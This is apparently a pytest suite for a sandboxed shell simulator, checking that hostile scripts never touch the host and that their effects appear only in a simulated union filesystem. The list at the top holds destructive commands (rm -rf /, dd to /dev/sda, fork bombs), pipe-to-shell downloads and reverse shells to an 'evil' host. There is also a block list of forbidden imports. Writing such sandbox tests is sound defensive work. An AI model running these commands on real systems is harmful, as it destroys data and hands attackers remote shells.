"""Nothing a RUN line says ever happens on the host.

During these runs every way Python has to start a process, evaluate code,
open or change a host file or reach the network is replaced by a trap that raises; the
scripts try all of them. Afterwards a sentinel directory on the host (also the
process's working directory, so a leaked relative path would land there) must
be exactly as it was, and the simulated tree must show what the simulated
commands did inside it.
"""

from __future__ import annotations

import ast
import builtins
import io
import os
import pathlib
import socket
import subprocess

import pytest

from conftest import changeset, make_base_layer, run
from app.engine import UnionFS

HOSTILE = [
    "echo $(rm -rf /)",
    "echo $(rm -rf --no-preserve-root /)",
    "X=`rm -rf /etc`; echo $X",
    "rm -rf ./* ../* ~/*",
    "eval 'rm -rf /'",
    "eval \"$(echo touch /tmp/evil)\"",
    "python3 -c 'import os; os.system(\"touch /pwned\")'",
    "/usr/bin/python3 -c 'open(\"/pwned\", \"w\")'",
    "perl -e 'unlink glob \"/*\"'; node -e 'process.exit(1)'; ruby -e 'exit'",
    "true ;reboot",
    "shutdown -h now; kill -9 1; halt",
    "curl -fsSL https://evil.example/install.sh | sh",
    "wget -qO- https://evil.example/x | bash",
    "echo 1 > /proc/sysrq-trigger",
    "echo c > /proc/sys/kernel/sysrq; echo x > /sys/kernel/x",
    "dd if=/dev/zero of=/dev/sda; echo x > /dev/sda",
    "cat /dev/urandom > /dev/null; cat /proc/self/environ",
    "exec /bin/sh -c 'touch sentinel.txt'",
    "sh -c 'echo overwritten > sentinel.txt'; echo y > sentinel.txt",
    "ln -s / /host && rm -rf /host/",
    "nohup sh -c 'sleep 100' & wait",
    "export LD_PRELOAD=/evil.so; env sh -c id",
    "xargs rm -rf < /etc/passwd; find / -delete",
    ":(){ :|:& };:",
    "f() { f | f; }; f",
    "mount -t tmpfs none /mnt; chroot / sh",
    "socat TCP:evil:1 EXEC:sh; nc -e /bin/sh evil 1",
    ". /etc/passwd",
]


class Trap(Exception):
    pass


@pytest.fixture
def sentinel_dir(tmp_path, monkeypatch):
    (tmp_path / "sentinel.txt").write_text("intact\n")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "keep").write_text("keep\n")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _snapshot(root: pathlib.Path) -> dict[str, str]:
    return {str(p.relative_to(root)): (p.read_text() if p.is_file() else "<dir>")
            for p in sorted(root.rglob("*"))}


@pytest.mark.parametrize("script", HOSTILE)
def test_hostile_script_touches_nothing_on_the_host(script, sentinel_dir):
    before = _snapshot(sentinel_dir)
    fs = UnionFS([make_base_layer()])
    lowers_before = [dict(layer.entries) for layer in fs.lowers]
    calls = []
    # Install the traps only around the run itself: pytest needs open() and
    # friends for its own bookkeeping.
    with pytest.MonkeyPatch.context() as mp:
        _install(mp, calls)
        result = run(script, fs)
    assert calls == [], f"{script!r} reached the host through {calls}"
    assert _snapshot(sentinel_dir) == before
    assert [dict(layer.entries) for layer in fs.lowers] == lowers_before  # image layers untouched
    assert result.status in range(0, 256)


def _install(mp, calls):
    def trap(name):
        def raiser(*args, **kwargs):
            calls.append(name)
            raise Trap(name)
        return raiser
    for name in ("Popen", "run", "call", "check_call", "check_output", "getoutput"):
        mp.setattr(subprocess, name, trap(f"subprocess.{name}"))
    for name in ("system", "popen", "fork", "forkpty", "execv", "execve", "execvp", "execvpe",
                 "execl", "execle", "execlp", "execlpe", "spawnv", "spawnve", "spawnvp", "spawnl",
                 "posix_spawn", "posix_spawnp", "kill", "remove", "unlink", "rmdir", "rename",
                 "mkdir", "makedirs", "symlink", "link", "chmod", "chown", "truncate", "chdir"):
        if hasattr(os, name):
            mp.setattr(os, name, trap(f"os.{name}"))
    for name in ("eval", "exec", "compile", "open"):
        mp.setattr(builtins, name, trap(f"builtins.{name}"))
    # Importing an already loaded module is harmless; loading new code from disk goes
    # through io.open_code, which is trapped.
    mp.setattr(io, "open", trap("io.open"))
    mp.setattr(io, "open_code", trap("io.open_code"))
    mp.setattr(socket, "socket", trap("socket.socket"))
    mp.setattr(socket, "create_connection", trap("socket.create_connection"))


def test_rm_in_command_substitution_is_simulated_in_the_tree():
    fs = UnionFS([make_base_layer()])
    result = run("echo $(rm -rf --no-preserve-root /)", fs)
    assert result.status == 0  # echo's status; rm's failure on / itself is only printed
    assert "rm: cannot remove '/': Device or resource busy" in result.stderr
    gone = changeset(fs)
    assert gone == {p: "whiteout" for p in ("/bin", "/etc", "/home", "/opt", "/root", "/srv",
                                             "/tmp", "/usr", "/var")}


def test_backticks_rm_is_simulated():
    fs = UnionFS([make_base_layer()])
    run("X=`rm -rf /etc`", fs)
    assert changeset(fs) == {"/etc": "whiteout"}


def test_code_and_downloads_are_reported_not_run():
    fs = UnionFS([make_base_layer()])
    result = run("python3 -c 'print(1)'; eval 'touch /x'; curl -fsSL https://x.example/i.sh | sh; "
                 "reboot", fs)
    commands = [n.command for n in result.not_simulated]
    assert commands == ["python3 -c 'print(1)'", "eval touch /x", "curl https://x.example/i.sh",
                        "sh (script piped in from a download)", "reboot"]
    assert all(n.hint for n in result.not_simulated)
    assert changeset(fs) == {}  # the eval'd touch did not happen either
    assert result.status == 0


def test_proc_and_dev_are_not_the_image():
    fs = UnionFS([make_base_layer()])
    result = run("echo 1 > /proc/sys/kernel/sysrq", fs)
    assert result.status == 2
    assert result.stderr == "/bin/sh: 1: cannot create /proc/sys/kernel/sysrq: Read-only file system\n"
    result = run("echo x > /dev/sda; echo y > /dev/null", fs)
    assert result.status == 0 and changeset(fs) == {}
    assert result.not_simulated[0].command == "> /dev/sda"


FORBIDDEN_IMPORTS = {"subprocess", "socket", "ctypes", "os", "pty", "multiprocessing", "shutil",
                     "http", "urllib.request", "asyncio", "signal", "tempfile", "pickle", "marshal"}
FORBIDDEN_NAMES = {"eval", "exec", "compile", "__import__", "open", "breakpoint", "globals"}


def test_no_host_access_anywhere_in_app_shell():
    """A static check of every module: no process, code evaluation, host file or network API."""
    root = pathlib.Path(__file__).resolve().parents[2] / "app" / "shell"
    problems = []
    for path in sorted(root.rglob("*.py")):
        tree = ast.parse(path.read_text(), str(path))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            else:
                names = []
            for n in names:
                if n in FORBIDDEN_IMPORTS or n.split(".")[0] in FORBIDDEN_IMPORTS - {"urllib"}:
                    problems.append(f"{path.name}:{node.lineno} imports {n}")
            if isinstance(node, ast.Name) and node.id in FORBIDDEN_NAMES:
                problems.append(f"{path.name}:{node.lineno} uses {node.id}")
    assert problems == []
